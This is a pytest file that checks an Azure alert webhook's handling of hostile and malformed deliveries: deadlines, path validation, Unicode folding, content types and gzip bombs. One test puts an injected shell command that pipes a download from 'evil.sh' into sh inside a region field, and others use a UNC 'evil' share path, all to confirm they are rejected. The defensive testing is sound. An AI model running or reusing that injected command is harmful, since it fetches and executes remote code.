"""Hostile and odd deliveries through the real function, SDK and emulator (issue 12).

Every test here failed on the code before the fix; none measures wall-clock time: the whole-delivery
deadline is driven by a clock the test moves.
"""

from __future__ import annotations

import gzip
import json
import logging
import time
from collections.abc import Callable
from typing import Any

import pytest

from capture import app_context
from capture.webhook import MAX_DECISION_LOGS, MAX_RESULTS, handle_alert
from emulator import Emulator
from tests.conftest import RG, VM_WEB_1, payload, request
from tests.flow.conftest import arm_calls, captures

VM_WIN = f"{RG}/rg-web/providers/Microsoft.Compute/virtualMachines/vm-app-win-01"
JSON = {"content-type": "application/json"}


def post(call: Any, body: Any, headers: dict[str, str] | None = None) -> tuple[int, dict[str, Any], Any]:
    status, answer, response = call("alert_webhook", request(body=body, headers=headers or JSON))
    assert isinstance(answer.get("status"), str)
    return status, answer, response


def manual(*targets: str, **capture: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"targets": list(targets), "reason": "hardening"}
    if capture:
        body["capture"] = capture
    return body


def many_vms(emu: Emulator, count: int) -> list[str]:
    for i in range(count):
        emu.world.add_vm(f"vm-many-{i}", resource_group="rg-many", location="eastus")
    return [f"{RG}/rg-many/providers/Microsoft.Compute/virtualMachines/vm-many-{i}" for i in range(count)]


def jump_after(emu: Emulator, puts: int) -> Callable[[], float]:
    """A clock that stands still until the emulator has seen `puts` capture PUTs, then is 100 s later."""
    base = time.monotonic()

    def clock() -> float:
        done = sum(1 for r in emu.request_log if r.method == "PUT")
        return base + (100.0 if done >= puts else 0.0)

    return clock


# --- 1: one deadline for the whole delivery ------------------------------------------------------------


def test_targets_that_do_not_fit_the_deadline_are_unavailable_and_a_retry_finishes_them(emu, app_env):
    app_env(CAPTURE_MAX_SESSIONS="100")
    targets = many_vms(emu, 24)
    body = json.dumps(manual(*targets)).encode()
    answer = handle_alert(body, app_context(), headers=JSON, clock=jump_after(emu, 3))
    counts = answer.body["counts"]
    assert answer.status_code == 503 and answer.headers["Retry-After"]
    assert counts["started"] >= 3 and counts["unavailable"] >= 1
    assert counts["started"] + counts["unavailable"] == 24
    assert len(captures(emu)) == counts["started"]
    not_begun = [r for r in answer.body["results"] if r["outcome"] == "unavailable"]
    assert all("time budget" in r["reason"] for r in not_begun)

    again = handle_alert(body, app_context(), headers=JSON)
    assert again.status_code == 202
    assert again.body["counts"] == {"duplicate": counts["started"], "started": counts["unavailable"]}
    assert len(captures(emu)) == 24


def test_a_delivery_whose_deadline_has_passed_sends_nothing_to_azure(emu, app_env):
    targets = many_vms(emu, 5)
    ticks = iter([0.0])
    answer = handle_alert(
        json.dumps(manual(*targets)).encode(), app_context(), clock=lambda: next(ticks, 100.0)
    )
    assert (answer.status_code, answer.body["counts"]) == (503, {"unavailable": 5})
    assert arm_calls(emu) == []


def test_answer_and_log_are_bounded_for_many_targets(call, emu, caplog):
    caplog.set_level(logging.INFO, logger="capture.decisions")
    targets = [f"{RG}/rg/providers/Microsoft.Storage/storageAccounts/st{i}" for i in range(120)]
    status, answer, _ = post(call, manual(*targets))
    assert (status, answer["counts"]) == (200, {"ignored": 120})
    assert len(answer["results"]) == MAX_RESULTS
    assert answer["resultsOmitted"] == 120 - MAX_RESULTS
    lines = [json.loads(r.getMessage()) for r in caplog.records if r.name == "capture.decisions"]
    assert [line["event"] for line in lines].count("capture_decision") == MAX_DECISION_LOGS
    [summary] = [line for line in lines if line["event"] == "alert_answered"]
    assert summary["counts"] == {"ignored": 120}
    assert summary["decisionLinesOmitted"] == 120 - MAX_DECISION_LOGS


def test_the_deciding_results_are_shown_first_when_cut(call, emu):
    ignored = [f"{RG}/rg/providers/Microsoft.Storage/storageAccounts/st{i}" for i in range(60)]
    status, answer, _ = post(call, manual(*ignored, VM_WEB_1))
    assert status == 202
    assert answer["results"][0]["outcome"] == "started"
    assert answer["counts"] == {"ignored": 60, "started": 1}


# --- 2: local paths and the VM's OS ---------------------------------------------------------------------


def test_unc_and_system_paths_are_refused_before_azure(call, emu):
    for path in ("\\\\evil\\share", "C:\\Windows\\System32", "C:\\Captures\\" + "x" * 10000, "relative/dir"):
        status, answer, _ = post(call, manual(VM_WIN, localPath=path))
        assert (status, answer["error"]["location"]) == (400, "capture.localPath")
    assert arm_calls(emu) == []
    assert captures(emu) == []


def test_windows_path_on_a_windows_vm_is_used(call, emu):
    status, _, _ = post(call, manual(VM_WIN, localPath="C:\\Captures\\alerts"))
    assert status == 202
    [stored] = captures(emu)
    assert stored["properties"]["storageLocation"]["filePath"].startswith("C:\\Captures\\alerts\\alertcap-")


def test_a_path_for_the_other_os_is_refused_once_the_os_is_known(call, emu):
    status, answer, _ = post(call, manual(VM_WEB_1, localPath="C:\\Captures"))
    assert (status, answer["status"]) == (502, "failed")
    assert answer["results"][0]["error"]["code"] == "LocalPathNotForThisOs"
    assert [m for m, _, _ in arm_calls(emu)] == ["GET"]  # the VM lookup only: nothing was created
    assert captures(emu) == []


def test_local_path_setting_follows_the_same_rule(call, emu, app_env):
    app_env(CAPTURE_LOCAL_PATH="\\\\evil\\share")
    status, answer, _ = post(call, manual(VM_WEB_1))
    assert (status, answer["status"]) == (500, "misconfigured")
    assert "CAPTURE_LOCAL_PATH" in answer["error"]["message"]


# --- 3: the payload's region ------------------------------------------------------------------------------


def classic(region: str) -> dict[str, Any]:
    body = payload("classic-metric-activated-vm.json")
    body["context"]["resourceRegion"] = region
    return body


def test_region_with_a_shell_command_is_refused_and_never_echoed(call, emu):
    status, answer, _ = post(call, classic("eastus2; curl evil.sh | sh #"))
    assert (status, answer["error"]["location"]) == (400, "context.resourceRegion")
    assert arm_calls(emu) == []


def test_payload_region_that_disagrees_with_the_vm_is_said_and_the_capture_still_starts(call, emu):
    status, answer, _ = post(call, classic("westeurope"))  # vm-web-1 is in eastus
    assert (status, answer["status"]) == (202, "started")
    [result] = answer["results"]
    assert "westeurope" in result["reason"] and "eastus" in result["reason"]
    assert result["capture"]["region"] == "eastus"


def test_payload_region_without_a_watcher_is_checked_against_the_vm(call, emu):
    status, answer, _ = post(call, classic("southcentralus"))
    assert (status, answer["status"]) == (202, "started")
    assert "southcentralus" in answer["results"][0]["reason"]


def test_agreeing_payload_region_keeps_the_warm_path(call, emu):
    assert post(call, classic("eastus"))[0] == 202
    methods = [m for m, _, _ in arm_calls(emu)]
    assert "GET" in methods and len(methods) == 3  # watchers, captures, PUT: no VM lookup


# --- 4: rejected deliveries are logged with the request id ----------------------------------------------


def test_rejected_delivery_logs_reason_location_and_request_id(call, emu, caplog):
    caplog.set_level(logging.INFO, logger="capture.decisions")
    secret_body = b'{"targets": ["not-an-id"]}'
    req = request(body=secret_body, headers=JSON, params={"code": "k3y-never-logged"})
    status, _, _ = call("alert_webhook", req, "inv-1234")
    assert status == 400
    [line] = [json.loads(r.getMessage()) for r in caplog.records if r.name == "capture.decisions"]
    assert (line["event"], line["requestId"], line["location"]) == (
        "request_rejected",
        "inv-1234",
        "targets[0]",
    )
    assert "k3y" not in caplog.text
    assert '{"targets"' not in caplog.text


# --- 6: ASCII-only folding, app and emulator -------------------------------------------------------------


def test_long_s_subscriptions_never_reaches_azure(call, emu):
    body = payload("common-metric-fired-vm.json")
    body["data"]["essentials"]["alertTargetIDs"] = [
        VM_WEB_1.replace("/subscriptions/", "/\u017fubscriptions/")
    ]
    status, answer, _ = post(call, body)
    assert (status, answer["error"]["location"]) == (400, "data.essentials.alertTargetIDs[0]")
    assert arm_calls(emu) == []


def test_kelvin_sign_does_not_match_a_k_in_the_emulator(call, emu):
    emu.world.add_vm("vm-kilo", resource_group="rg-web", location="eastus")
    kelvin = f"{RG}/rg-web/providers/Microsoft.Compute/virtualMachines/vm-\u212ailo"
    status, answer, _ = post(call, manual(kelvin))
    assert (status, answer["results"][0]["error"]["code"]) == (502, "ResourceNotFound")
    assert captures(emu) == []


# --- 7: locations in the HTTP answer ----------------------------------------------------------------------


def test_malformed_alert_target_is_located_in_the_callers_body(call, emu):
    body = payload("common-metric-fired-multi-vm.json")
    body["data"]["essentials"]["alertTargetIDs"][1] = "/subscriptions/x/resourceGroups/rg"
    status, answer, _ = post(call, body)
    assert (status, answer["error"]["location"]) == (400, "data.essentials.alertTargetIDs[1]")
    assert captures(emu) == []


# --- 9: request headers ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {"content-type": "application/json; charset=utf-8"},
        {"content-type": "Application/JSON;charset=UTF-8"},
        {},
    ],
)
def test_json_content_types_and_none_are_read(call, emu, headers):
    status, _, _ = post(call, manual(VM_WEB_1), headers=headers or {"x-none": "1"})
    assert status == 202


@pytest.mark.parametrize(
    ("headers", "location"),
    [
        ({"content-type": "text/plain"}, "headers.Content-Type"),
        ({"content-type": "application/x-www-form-urlencoded"}, "headers.Content-Type"),
        ({"content-type": "application/json; charset=latin-1"}, "headers.Content-Type"),
        ({"content-type": "application/json", "content-encoding": "br"}, "headers.Content-Encoding"),
    ],
)
def test_other_media_are_415(call, emu, headers, location):
    status, answer, _ = post(call, manual(VM_WEB_1), headers=headers)
    assert (status, answer["status"], answer["error"]["location"]) == (415, "rejected", location)
    assert captures(emu) == []


def test_gzip_body_is_decoded(call, emu):
    body = gzip.compress(json.dumps(manual(VM_WEB_1)).encode())
    status, _, _ = post(call, body, headers={**JSON, "content-encoding": "gzip"})
    assert status == 202


def test_gzip_bomb_is_refused_without_inflating_it(call, emu):
    body = gzip.compress(b" " * (50 * 1024 * 1024))
    status, answer, _ = post(call, body, headers={**JSON, "content-encoding": "gzip"})
    assert status == 400
    assert "1 MiB" in answer["error"]["message"]


def test_a_delivery_lists_each_watcher_once(call, emu, app_env):
    app_env(CAPTURE_MAX_SESSIONS="100")
    targets = many_vms(emu, 6)
    status, answer, _ = post(call, manual(*targets))
    assert (status, answer["counts"]) == (202, {"started": 6})
    lists = [p for m, p, _ in arm_calls(emu) if m == "GET" and p.split("?")[0].endswith("/packetCaptures")]
    assert len(lists) == 1
    assert sum(1 for m, _, _ in arm_calls(emu) if m == "PUT") == 6
